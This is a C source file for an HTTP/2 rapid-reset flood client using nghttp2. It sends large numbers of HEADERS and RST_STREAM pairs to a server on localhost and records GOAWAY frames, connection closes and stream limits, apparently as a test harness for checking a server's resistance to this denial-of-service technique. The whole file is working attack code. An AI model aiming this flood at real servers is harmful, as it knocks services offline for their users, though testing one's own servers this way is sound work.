// SPDX-License-Identifier: MIT
// Rapid-reset flood client (h2_flood.h). nghttp2 frames and parses; the
// client writes HEADERS and RST_STREAM pairs into one buffer and drains it
// into a non-blocking socket, reading the server's frames as they come so
// that its writes never stall. The flood ends with a PING: its ACK says the
// server has read everything before it.
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <nghttp2/nghttp2.h>

#include "h2_flood.h"

#define OUT_HIGH (256 * 1024) // stop framing while this much is unsent
#define WAIT_MS  30000        // for the server, once everything is sent

typedef struct flood {
	int              fd;
	nghttp2_session *s;
	uint8_t         *out;
	size_t           len, cap;
	size_t           framed, written; // bytes, since the start
	size_t          *pair_end;        // `framed` after each pair
	unsigned         pairs;           // framed
	bool             pong;
	h2_flood_result  r;
} flood;

static void
die(const char *what)
{
	fprintf(stderr, "h2_flood: %s: %s\n", what, strerror(errno));
	abort();
}

static double
now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

static int
on_frame(nghttp2_session *s, const nghttp2_frame *f, void *arg)
{
	(void) s;
	flood *fl = arg;
	if (f->hd.type == NGHTTP2_GOAWAY) {
		fl->r.goaway     = true;
		fl->r.goaway_err = f->goaway.error_code;
	} else if (f->hd.type == NGHTTP2_PING &&
	           (f->hd.flags & NGHTTP2_FLAG_ACK)) {
		fl->pong = true;
	} else if (f->hd.type == NGHTTP2_SETTINGS &&
	           !(f->hd.flags & NGHTTP2_FLAG_ACK)) {
		for (size_t i = 0; i < f->settings.niv; i++) {
			if (f->settings.iv[i].settings_id ==
			    NGHTTP2_SETTINGS_MAX_CONCURRENT_STREAMS) {
				fl->r.max_streams = f->settings.iv[i].value;
			}
		}
	}
	return 0;
}

// Moves what nghttp2 has framed into the out buffer.
static void
take_frames(flood *fl)
{
	const uint8_t *p;
	ssize_t        n;
	while ((n = nghttp2_session_mem_send(fl->s, &p)) > 0) {
		if (fl->len + (size_t) n > fl->cap) {
			fl->cap = (fl->len + (size_t) n) * 2;
			fl->out = realloc(fl->out, fl->cap);
			if (fl->out == NULL) {
				die("realloc");
			}
		}
		memcpy(fl->out + fl->len, p, (size_t) n);
		fl->len += (size_t) n;
		fl->framed += (size_t) n;
	}
	if (n < 0) {
		fprintf(stderr, "h2_flood: %s\n", nghttp2_strerror((int) n));
		abort();
	}
}

// One stream: its HEADERS framed (which fixes its id; without END_STREAM,
// as a gRPC client opens a call), then its RST_STREAM.
static void
frame_pair(flood *fl, const nghttp2_nv *nv, size_t nnv)
{
	int32_t id = nghttp2_submit_headers(
	    fl->s, NGHTTP2_FLAG_NONE, -1, NULL, nv, nnv, NULL);
	if (id < 0) {
		fprintf(stderr, "h2_flood: %s\n", nghttp2_strerror(id));
		abort();
	}
	take_frames(fl); // before the reset, or nghttp2 drops the HEADERS
	nghttp2_submit_rst_stream(
	    fl->s, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL);
	take_frames(fl);
	fl->pair_end[fl->pairs++] = fl->framed;
}

// Writes and reads what the socket allows within `ms`.
static void
pump(flood *fl, int ms)
{
	struct pollfd p = {
	    .fd = fl->fd, .events = POLLIN | (fl->len > 0 ? POLLOUT : 0)};
	if (poll(&p, 1, ms) <= 0) {
		return;
	}
	if (p.revents & POLLOUT) {
		ssize_t w = send(fl->fd, fl->out, fl->len, MSG_NOSIGNAL);
		if (w > 0) {
			memmove(fl->out, fl->out + w, fl->len - (size_t) w);
			fl->len -= (size_t) w;
			fl->written += (size_t) w;
			while (fl->r.sent < fl->pairs &&
			       fl->pair_end[fl->r.sent] <= fl->written) {
				fl->r.sent++;
			}
		} else if (w < 0 && errno != EAGAIN && errno != EINTR) {
			fl->r.closed = true;
		}
	}
	if (p.revents & (POLLIN | POLLHUP | POLLERR)) {
		uint8_t buf[65536];
		ssize_t r = recv(fl->fd, buf, sizeof(buf), 0);
		if (r > 0) {
			// Errors (frames for streams long gone) do not matter.
			(void) nghttp2_session_mem_recv(
			    fl->s, buf, (size_t) r);
			take_frames(fl); // SETTINGS and PING acks
		} else if (r == 0 || (errno != EAGAIN && errno != EINTR)) {
			fl->r.closed = true;
		}
	}
}

static int
flood_connect(int port)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		die("socket");
	}
	struct sockaddr_in sa;
	memset(&sa, 0, sizeof(sa));
	sa.sin_family      = AF_INET;
	sa.sin_port        = htons((uint16_t) port);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (connect(fd, (struct sockaddr *) &sa, sizeof(sa)) != 0) {
		die("connect");
	}
	int one = 1;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	return fd;
}

#define NV(k, v)                                                              \
	{                                                                     \
		(uint8_t *) (k), (uint8_t *) (v), sizeof(k) - 1, strlen(v),   \
		    NGHTTP2_NV_FLAG_NONE                                      \
	}

h2_flood_result
h2_flood(int port, const char *path, unsigned n)
{
	flood fl;
	memset(&fl, 0, sizeof(fl));
	double t0 = now_s();
	fl.fd     = flood_connect(port);
	nghttp2_session_callbacks *cb;
	if (nghttp2_session_callbacks_new(&cb) != 0) {
		die("nghttp2 callbacks");
	}
	nghttp2_session_callbacks_set_on_frame_recv_callback(cb, on_frame);
	if (nghttp2_session_client_new(&fl.s, cb, &fl) != 0) {
		die("nghttp2 session");
	}
	nghttp2_session_callbacks_del(cb);
	nghttp2_submit_settings(fl.s, NGHTTP2_FLAG_NONE, NULL, 0);
	take_frames(&fl);
	const nghttp2_nv nv[] = {
	    NV(":method", "POST"),
	    NV(":scheme", "http"),
	    NV(":path", path),
	    NV(":authority", "127.0.0.1"),
	    NV("content-type", "application/grpc"),
	    NV("te", "trailers"),
	};
	fl.pair_end = calloc(n > 0 ? n : 1, sizeof(*fl.pair_end));
	if (fl.pair_end == NULL) {
		die("calloc");
	}
	while (!fl.r.closed && fl.r.sent < n) {
		while (fl.pairs < n && fl.len < OUT_HIGH) {
			frame_pair(&fl, nv, sizeof(nv) / sizeof(nv[0]));
		}
		pump(&fl, 1000);
	}
	nghttp2_submit_ping(fl.s, NGHTTP2_FLAG_NONE, NULL);
	take_frames(&fl);
	double until = now_s() + WAIT_MS / 1000.0;
	while (!fl.r.closed && !fl.pong && now_s() < until) {
		pump(&fl, 100);
	}
	fl.r.seconds = now_s() - t0;
	nghttp2_session_del(fl.s);
	close(fl.fd);
	free(fl.out);
	free(fl.pair_end);
	return fl.r;
}
